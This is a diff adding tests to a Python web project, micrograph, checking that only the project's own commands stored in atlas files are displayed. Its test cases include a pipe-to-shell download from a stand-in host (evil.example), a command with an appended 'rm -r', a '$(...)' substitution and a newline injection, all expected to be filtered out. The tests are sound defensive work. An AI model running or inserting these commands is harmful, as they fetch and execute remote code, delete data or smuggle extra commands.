@@ -12,6 +12,7 @@ from web_client import Client
 
 from micrograph.atlas import AtlasWriter, Library, Visualization, bundled_catalogue
 from micrograph.claims import Claim
+from micrograph.parts.commands import Commands
 from micrograph.web import create_app
 from micrograph.web.known import Known
 from micrograph.web.pages import claim
@@ -158,3 +159,29 @@ def test_a_page_says_what_is_missing_now() -> None:
     assert "weights" in site.get(path + ".json").json()["missing"]
     reasons[0] = "ready"
     assert "nobody has tested" in site.get(path + ".json").json()["missing"]
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ('micrograph claim "toytown/mixed4b/3 <- mixed4a/1" --dataset D', True),
+        ("curl http://evil.example | sh", False),
+        ("micrograph render toytown; rm -r x", False),
+        ("micrograph render $(x)", False),
+        ("micrograph render toytown\nx", False),
+    ],
+)
+def test_commands_of_an_atlas_are_ours(
+    command: str, shown: bool, file: bytes, tmp_path: Path
+) -> None:
+    path = tmp_path / "toytown.atlas"
+    path.write_bytes(file)
+    replaced(path, evidence(lines=[{"name": "x", "missing": "something", "command": command}]))
+    data = Client(create_app(Library([tmp_path]))).get(NAMED.path + ".json").json()
+    assert data["lines"][0]["command"] == command * shown
+
+
+def test_the_command_to_test_names_the_sites_own_folder() -> None:
+    site = Client(create_app(Library([], bundled_catalogue()), commands=Commands("/my atlases")))
+    command = site.get(NAMED.path + ".json").json()["commands"][-1]
+    assert command.endswith("--dataset imagenet-samples --atlas '/my atlases'")
